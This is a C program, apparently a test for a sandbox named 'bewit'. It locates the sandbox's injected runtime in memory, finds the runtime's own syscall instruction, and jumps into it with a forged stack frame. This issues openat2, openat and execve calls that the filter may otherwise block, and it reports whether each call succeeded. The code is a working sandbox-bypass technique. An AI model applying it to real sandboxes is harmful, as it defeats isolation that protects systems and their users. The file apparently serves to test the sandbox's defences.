/* use_runtime PLAIN SECRET: makes bewit put its runtime into this process, finds the instruction in it whose calls of openat2(2) pass, and makes calls
 * from there: openat2 of SECRET, openat of SECRET, execve of /bin/true. Prints what it got; "no runtime" where there is none after five seconds. */
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const unsigned char *find_instruction(const char *plain) {
	static const unsigned char call[] = {0xb8, 0xb5, 0x01, 0x00, 0x00, 0x0f, 0x05}; /* mov $437, %eax; syscall */
	time_t end = time(NULL) + 5;
	while (time(NULL) < end) {
		for (int i = 0; i < 5000; i++) close(open(plain, O_RDONLY));
		FILE *maps = fopen("/proc/self/maps", "re");
		char line[512];
		unsigned long first, behind;
		while (maps != NULL && fgets(line, sizeof line, maps) != NULL) {
			if (sscanf(line, "%lx-%lx r-xp", &first, &behind) != 2 || strchr(line, '/') != NULL) continue;
			if (first < 0x580000000000 || first >= 0x600000000000) continue;
			fclose(maps);
			for (const unsigned char *at = (const unsigned char *)first; at < (const unsigned char *)first + 4096 - sizeof call; at++)
				if (memcmp(at, call, sizeof call) == 0) return at + 5;
			return NULL;
		}
		if (maps != NULL) fclose(maps);
	}
	return NULL;
}

/* Behind the instruction the runtime takes its frame down and goes to the address that it finds there. */
long from_there(const void *instruction, long number, long a, const void *b, const void *c, long d);
__asm__(
    ".text\n.globl from_there\nfrom_there:\n"
    "push %rbx\n"
    "mov %rdi, %r11\nmov %rsi, %rax\nmov %rdx, %rdi\nmov %rcx, %rsi\nmov %r8, %rdx\nmov %r9, %r10\n"
    "sub $480, %rsp\nlea 1f(%rip), %rcx\nmov %rcx, 288(%rsp)\n"
    "jmp *%r11\n"
    "1:\npop %rbx\nret\n");

int main(int argc, char **argv) {
	if (argc != 3) return 2;
	const unsigned char *instruction = find_instruction(argv[1]);
	if (instruction == NULL) {
		puts("no runtime");
		return 0;
	}
	struct open_how how = {.flags = O_RDONLY};
	printf("openat2 %d\n", from_there(instruction, SYS_openat2, AT_FDCWD, argv[2], &how, sizeof how) >= 0);
	printf("openat %d\n", from_there(instruction, SYS_openat, AT_FDCWD, argv[2], NULL, 0) >= 0);
	fflush(stdout);
	pid_t child = fork();
	if (child == 0) {
		char *arguments[] = {"/bin/true", NULL};
		from_there(instruction, SYS_execve, (long)"/bin/true", arguments, NULL, 0);
		_exit(127);
	}
	int status;
	printf("execve %d\n", waitpid(child, &status, 0) == child && status == 0);
	return 0;
}
